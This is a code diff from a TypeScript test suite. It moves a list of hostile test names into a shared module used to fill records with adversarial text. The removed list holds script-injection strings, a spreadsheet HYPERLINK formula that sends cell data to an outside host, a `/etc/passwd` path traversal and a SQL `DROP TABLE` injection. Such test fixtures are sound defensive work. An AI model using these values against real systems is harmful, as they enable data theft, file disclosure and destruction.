@@ -1,23 +1,5 @@
+import { hostileNames } from '../../src/tests/hostileNames.ts';
 import type { Row } from './row.ts';
-
-/** Texts that break what does not treat them as text, each in a name of its own. */
-export const hostileNames = [
-  '<script>document.title = "broken"</script>',
-  '</title><script>document.title = "broken"</script>',
-  '"><img src=x onerror="document.title = \'broken\'">',
-  `{{ 7 * 7 }} \${document.title = "broken"}`,
-  ']]><!-- broken -->',
-  '=HYPERLINK("https://example.org/?"&A1,"Vostok")',
-  '__proto__',
-  'constructor',
-  '../../etc/passwd',
-  'CON',
-  `Long ${'name '.repeat(48)}`.trim(),
-  'A\u0000pollo\u0007\u001b[31m \u202eod\u202c \ud800',
-  '東風 Сою́з Αθηνά 🚀',
-  "Robert'); DROP TABLE spacecraft;--",
-  '&lt;b&gt; &amp;amp; &#60;',
-];
 
 /** Puts hostile text into the records of every list: names, serial numbers, descriptions, addresses, credits. */
 export function hostileRows(rows: Row[], list: string): Row[] {
